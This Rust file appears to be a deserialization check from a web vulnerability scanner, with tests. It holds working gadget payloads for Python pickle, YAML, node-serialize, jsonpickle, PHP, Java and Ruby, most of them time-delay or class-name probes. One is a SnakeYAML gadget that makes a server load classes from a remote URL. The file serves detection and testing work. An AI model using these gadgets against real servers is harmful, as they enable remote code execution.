//! Values from which objects are made again, of whatever class whoever sends them names.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE_NO_PAD};
use futures_util::FutureExt;
use futures_util::future::BoxFuture;

use super::choice::Choice;
use super::facts::facts;
use super::marks::Marks;
use super::{called, timing};
use crate::checks::{About, Bench, Check, Entry};
use crate::point::{Place, Point};
use crate::proof::{Expect, Proof};

/// See [`About`].
pub(super) struct Serialized;

static ABOUT: About = About {
    name: "deserialization",
    qids: &[990_035],
    means: "A value is turned into objects by a format that names their classes, so that the sender of the request chooses \
            which classes are made, and with which content.",
    matters: "Making or dropping such objects runs code of their classes. In many languages that is enough to run commands on the \
              server; in the others files are deleted or sign-in is passed with the classes that the application has.",
    remedy: "Exchange data in a format that has no classes, such as JSON, and check what comes. Where objects must travel, sign them \
             and check the signature before they are read, and name the classes that are allowed.",
    technique: "Where a value has the form of Python's pickle, PHP, Java, Ruby or `node-serialize`, or is called as if it had, it is replaced \
                by an object that waits, in turn with one that does not; by classes that refuse to be made, in turn with unknown ones; or \
                by a class that is not there, whose name must come back. YAML makes an object that waits, or one that calls the listener.",
    source: "CWE-502",
};

/// What a value may be.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Form {
    /// Python's `pickle`.
    Pickle,
    /// PHP's `serialize`.
    Php,
    /// Java's object streams.
    Java,
    /// Ruby's `Marshal`.
    Ruby,
    /// JSON with functions, as `node-serialize` and `jsonpickle` write it.
    Json,
    /// YAML with tags.
    Yaml,
}

/// How the bytes stand in the value.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Wrap {
    Plain,
    Base64,
    UrlSafe,
}

impl Wrap {
    /// The bytes that stand in a value; none where it has others.
    fn take(self, value: &str) -> Vec<u8> {
        match self {
            Self::Plain => value.as_bytes().to_vec(),
            Self::Base64 | Self::UrlSafe => decoded(value).unwrap_or_default(),
        }
    }

    fn put(self, bytes: &[u8]) -> String {
        match self {
            Self::Plain => String::from_utf8_lossy(bytes).into_owned(),
            Self::Base64 => STANDARD.encode(bytes),
            Self::UrlSafe => URL_SAFE_NO_PAD.encode(bytes),
        }
    }
}

/// Names of values that are objects, whatever they look like.
const OBJECTS: &[&str] = &["obj", "serial", "pickle", "marshal", "session", "state", "payload", "data"];
/// Names of values in YAML.
const YAML: &[&str] = &["yaml", "yml", "config", "import", "manifest"];

impl Check for Serialized {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn probe<'a>(
        &'a self,
        bench: &'a Bench<'a>,
        entry: &'a Entry,
        point: &'a Point,
    ) -> Option<BoxFuture<'a, ()>> {
        if point.is_name() || matches!(point.place, Place::Within(..) | Place::FileName(_)) {
            return None;
        }
        let forms = forms(point);
        (!forms.is_empty()).then(|| probe(bench, entry, point, forms).boxed())
    }
}

/// What a value is in base64, of either alphabet.
fn decoded(value: &str) -> Option<Vec<u8>> {
    let value = value.trim().trim_end_matches('=');
    let bytes = || STANDARD_NO_PAD.decode(value).or_else(|_| URL_SAFE_NO_PAD.decode(value)).ok();
    (value.len() >= 4).then(bytes).flatten()
}

/// What a value may be, and how it stands there.
fn forms(point: &Point) -> Vec<(Form, Wrap)> {
    let value = point.value.trim();
    if let Some(form) = form_of(value.as_bytes()) {
        return vec![(form, Wrap::Plain)];
    }
    if let Some(form) = decoded(value).and_then(|bytes| form_of(&bytes)) {
        return vec![(form, if value.contains(['-', '_']) { Wrap::UrlSafe } else { Wrap::Base64 })];
    }
    let name = point.name.to_ascii_lowercase();
    let is_called = |words: &[&str]| words.iter().any(|word| name.contains(word));
    if matches!(point.place, Place::Header | Place::Path(_)) || value.len() > 40 {
        return Vec::new();
    }
    let mut all = Vec::new();
    if is_called(OBJECTS) {
        all.extend([(Form::Pickle, Wrap::Base64), (Form::Pickle, Wrap::Plain), (Form::Json, Wrap::Plain)]);
    }
    if is_called(YAML) {
        all.push((Form::Yaml, Wrap::Plain));
    }
    all
}

/// The form of some bytes, by how they begin.
fn form_of(bytes: &[u8]) -> Option<Form> {
    let text = || std::str::from_utf8(bytes).ok();
    let is_pickle = |text: &str| {
        let begins = ["(dp", "(lp", "(dp0\n", "ccopy_reg\n", "c__main__\n", "c__builtin__\n"];
        text.ends_with('.') && text.contains('\n') && begins.iter().any(|begin| text.starts_with(begin))
    };
    match bytes {
        [0x80, 2..=5, .., b'.'] => Some(Form::Pickle),
        [0xac, 0xed, 0, 5, ..] => Some(Form::Java),
        [4, 8, kind, ..] if b"{[oIui:\"".contains(kind) => Some(Form::Ruby),
        [b'a' | b'O', b':', b'0'..=b'9', .., b'}'] => Some(Form::Php),
        [b's', b':', b'0'..=b'9', .., b'"', b';'] => Some(Form::Php),
        [b'i' | b'b' | b'd', b':', b'-' | b'0'..=b'9', .., b';'] => Some(Form::Php),
        [b'{', ..] => {
            let json: Option<serde_json::Value> = serde_json::from_slice(bytes).ok();
            json.is_some_and(|json| json.is_object()).then_some(Form::Json)
        }
        _ if text().is_some_and(is_pickle) => Some(Form::Pickle),
        _ => text().is_some_and(is_yaml).then_some(Form::Yaml),
    }
}

/// Whether a text has lines of names and values, as YAML has.
fn is_yaml(text: &str) -> bool {
    let is_member = |line: &&str| {
        line.split_once(": ").is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|letter| letter.is_alphanumeric() || "_- ".contains(letter))
        })
    };
    text.starts_with("---\n") || text.starts_with("!!") || text.lines().filter(is_member).count() >= 2
}

async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point, forms: Vec<(Form, Wrap)>) {
    let Some(known) = facts(bench, entry, point).await else { return };
    if known.is_settled() || known.is_route() {
        return;
    }
    for (form, wrap) in forms {
        let found = match form {
            Form::Pickle => waits(bench, entry, (point, wrap), pickle).await,
            Form::Json => waits(bench, entry, (point, wrap), |time| with_function(point, wrap, time)).await,
            Form::Php => refuses(bench, entry, (point, wrap)).await,
            Form::Java => names(bench, entry, (point, wrap), java).await,
            Form::Ruby => names(bench, entry, (point, wrap), ruby).await,
            Form::Yaml => match waits(bench, entry, (point, wrap), yaml).await {
                None => called::prove_first(bench, entry, point, &[SNAKE]).await,
                found => found,
            },
        };
        if let Some((payload, proof)) = found {
            known.settle();
            return bench.report_at(990_035, entry, Some((point, &payload)), proof);
        }
    }
}

/// An object that waits.
async fn waits(
    bench: &Bench<'_>,
    entry: &Entry,
    (point, wrap): (&Point, Wrap),
    make: impl Fn(&str) -> String + Sync,
) -> Option<(String, Proof)> {
    let fill = |time: &str| wrap.put(make(time).as_bytes());
    timing::prove_filled(bench, entry, point, (&fill, false)).await
}

/// `time.sleep(TIME)`, in the oldest form, which all versions read.
fn pickle(time: &str) -> String {
    format!("ctime\nsleep\n(I{time}\ntR.")
}

fn yaml(time: &str) -> String {
    format!("!!python/object/apply:time.sleep [{time}]")
}

/// What asks the listener for classes, in YAML for Java.
const SNAKE: &str =
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"{u}/\"]]]]";

/// The object with a member that is a function of JavaScript and called at once, and one that Python calls.
fn with_function(point: &Point, wrap: Wrap, time: &str) -> String {
    let bytes = wrap.take(&point.value);
    let mut json: serde_json::Map<String, serde_json::Value> =
        serde_json::from_slice(&bytes).unwrap_or_default();
    let wait = format!("for(var e=Date.now()+{time}*1000;Date.now()<e;);return 1");
    json.insert("zq".to_owned(), format!("_$$ND_FUNC$$_function(){{{wait}}}()").into());
    let call = serde_json::json!({
        "py/reduce": [{"py/type": "time.sleep"}, {"py/tuple": [time.parse::<u32>().unwrap_or_default()]}]
    });
    json.insert("zr".to_owned(), call);
    serde_json::Value::Object(json).to_string()
}

/// Classes of PHP that refuse to be made of nothing, and names of none.
const CLASSES: [(&str, &str); 4] = [
    ("DateTimeZone", "DataTimeZone"),
    ("Closure", "Clozure"),
    ("DateTimeImmutable", "DataTimeImmutable"),
    ("Generator", "Cenerator"),
];

/// Classes that refuse to be made are answered otherwise than those that are not there: where no classes are allowed, both are
/// alike.
async fn refuses(bench: &Bench<'_>, entry: &Entry, (point, wrap): (&Point, Wrap)) -> Option<(String, Proof)> {
    let value = String::from_utf8_lossy(&wrap.take(&point.value)).into_owned();
    let make = |class: &str| {
        let object = format!("O:{}:\"{class}\":0:{{}}", class.len());
        let put = wrap.put(with_object(&value, &object).as_bytes());
        (entry.request.with(point, &put), put)
    };
    let [first, second, third, fourth] = CLASSES.map(|(known, unknown)| [make(known), make(unknown)]);
    let ([yes, no], [yes_too, no_too]) = (first, second);
    let choice = Choice { yes: [yes, yes_too], no: [no, no_too], more: vec![third, fourth] };
    choice.prove(bench, entry).await
}

/// What PHP wrote, with another object as its last member; in place of all where it has none.
fn with_object(value: &str, object: &str) -> String {
    let added = || {
        let (head, members) = value.trim().split_once(":{")?;
        let (kind, count) = head.rsplit_once(':')?;
        let count: u32 = count.parse().ok()?;
        let members = members.strip_suffix('}')?;
        Some(format!("{kind}:{}:{{{members}s:2:\"zq\";{object}}}", count.checked_add(1)?))
    };
    added().unwrap_or_else(|| object.to_owned())
}

/// A class that is not there: what says so has its name, which does not stand in the request as it is.
async fn names(
    bench: &Bench<'_>,
    entry: &Entry,
    (point, wrap): (&Point, Wrap),
    make: fn(&str) -> Vec<u8>,
) -> Option<(String, Proof)> {
    // As text it would only be repeated.
    if wrap == Wrap::Plain {
        return None;
    }
    let marks = Marks::of(entry, point);
    let class = format!("Zq{}", marks.number);
    let payload = wrap.put(&make(&class));
    let control = wrap.put(&make(&format!("Zr{}", marks.number)));
    let attack = entry.request.with(point, &payload);
    let expect = Expect::BodyMatches(format!(r"\b{class}\b"));
    let proof = bench.prove(entry.replay(attack, expect, entry.request.with(point, &control))).await.ok()?;
    Some((payload, proof))
}

/// An object of a class without fields (Java Object Serialization Specification, 6.4.2).
fn java(class: &str) -> Vec<u8> {
    let length = u16::try_from(class.len()).unwrap_or_default().to_be_bytes();
    [&[0xac, 0xed, 0, 5, 0x73, 0x72], &length[..], class.as_bytes(), &[0; 8], &[2, 0, 0, 0x78, 0x70]].concat()
}

/// An object of a class without variables, in the format of version 4.8.
fn ruby(class: &str) -> Vec<u8> {
    let length = u8::try_from(class.len() + 5).unwrap_or_default();
    [&[4, 8, b'o', b':', length], class.as_bytes(), &[0]].concat()
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::*;
    use crate::testing::{Answer, Asked, scan, serve};

    /// Runs Python with a value as its argument; its last line, or what went wrong.
    fn python(code: &str, value: &str) -> String {
        let output = Command::new("python3").args(["-c", code, value]).output().unwrap();
        let all = [output.stdout, output.stderr].concat();
        String::from_utf8_lossy(&all).lines().last().unwrap_or_default().replace('<', "&lt;")
    }

    /// What PHP 8.2 does with a member of a class: it refuses some, and takes what it does not know for incomplete.
    fn php(value: &str, allows: bool) -> Answer {
        let refused = ["DateTimeZone", "DateTimeImmutable", "Closure", "Generator"];
        let is_whole =
            value.starts_with("a:1:{s:4:\"name\";s:3:\"ann\";") || value.starts_with("a:2:{s:4:\"name\"");
        if !is_whole {
            return Answer::html("<p>Hello, nobody</p>");
        }
        if allows && refused.iter().any(|class| value.contains(&format!(":\"{class}\":0:"))) {
            return Answer::status(500);
        }
        Answer::html("<p>Hello, ann</p>")
    }

    fn answer(asked: &Asked) -> Answer {
        let x = asked.field("data");
        let is_class = |bytes: &[u8]| {
            let text = String::from_utf8_lossy(bytes).into_owned();
            let (_, rest) = text.split_once('Z')?;
            Some(format!("Z{}", rest.chars().take_while(|c| c.is_alphanumeric()).collect::<String>()))
        };
        Answer::html(match asked.path.as_str() {
            "/pickle" => {
                python("import sys,pickle,base64\nprint(pickle.loads(base64.b64decode(sys.argv[1])))", &x)
            }
            "/plain" => python("import sys,pickle\nprint(pickle.loads(sys.argv[1].encode()))", &x),
            "/json" => python("import sys,json\nprint(json.loads(sys.argv[1]))", &x),
            "/php" => return php(&x, true),
            "/php-without" => return php(&x, false),
            "/java" => match STANDARD.decode(&x).ok().as_deref().and_then(is_class) {
                Some(class) => return Answer::html(format!("java.lang.ClassNotFoundException: {class}")),
                None => "an object".to_owned(),
            },
            // Says what it was given, as it was given.
            _ => format!("<p>{}</p>", x.replace('<', "&lt;")),
        })
    }

    #[tokio::test]
    async fn objects_of_any_class_are_found_and_data_is_not() {
        let server = serve(answer).await;
        let found = async |path: &str| {
            let found = scan(&Serialized, server, path).await;
            found.iter().map(|found| found.qid).collect::<Vec<_>>()
        };
        // {'a': 1} of protocols 4 and 0.
        let pickled = "gASVCgAAAAAAAAB9lIwBYZRLAXMu";
        let php = "a%3A1%3A%7Bs%3A4%3A%22name%22%3Bs%3A3%3A%22ann%22%3B%7D";
        for path in [
            format!("/pickle?data={pickled}"),
            "/pickle?data=".to_owned(),
            "/plain?data=(dp0%0AVa%0Ap1%0AI1%0As.".to_owned(),
            format!("/php?data={php}"),
            "/java?data=rO0ABXNyAAFhAAAAAAAAAAACAAB4cA%3D%3D".to_owned(),
        ] {
            assert_eq!(found(&path).await, [990_035], "{path}");
        }
        for path in [
            "/json?data=%7B%22a%22%3A1%7D".to_owned(),
            format!("/php-without?data={php}"),
            format!("/echo?data={pickled}"),
            "/echo?data=rO0ABXNyAAFhAAAAAAAAAAACAAB4cA%3D%3D".to_owned(),
            format!("/echo?data={php}"),
        ] {
            assert!(found(&path).await.is_empty(), "{path}");
        }
    }

    #[test]
    fn forms_are_known_by_how_they_begin() {
        let of = |value: &str| forms(&Point { value: value.to_owned(), ..Point::cookie("c", "") });
        assert_eq!(of("O:4:\"User\":1:{s:1:\"a\";i:1;}"), [(Form::Php, Wrap::Plain)]);
        assert_eq!(of("rO0ABXNyAAFh"), [(Form::Java, Wrap::Base64)]);
        assert_eq!(of("BAh7BkkiBmEGOgZFVGkG"), [(Form::Ruby, Wrap::Base64)]);
        assert_eq!(of("eyJuYW1lIjoiYW5uIn0="), [(Form::Json, Wrap::Base64)]);
        assert_eq!(of("name: ann\nage: 7"), [(Form::Yaml, Wrap::Plain)]);
        for value in ["", "hello", "a:b", "i:me", "12", "name: ann", "aGVsbG8gd29ybGQ="] {
            assert_eq!(of(value), [], "{value}");
        }
    }

    #[test]
    fn what_php_wrote_gets_a_member_more() {
        let object = "O:1:\"A\":0:{}";
        let wanted = "a:2:{i:0;i:1;s:2:\"zq\";O:1:\"A\":0:{}}";
        assert_eq!(with_object("a:1:{i:0;i:1;}", object), wanted);
        let wanted = "O:4:\"User\":1:{s:2:\"zq\";O:1:\"A\":0:{}}";
        assert_eq!(with_object("O:4:\"User\":0:{}", object), wanted);
        assert_eq!(with_object("i:7;", object), object);
    }
}
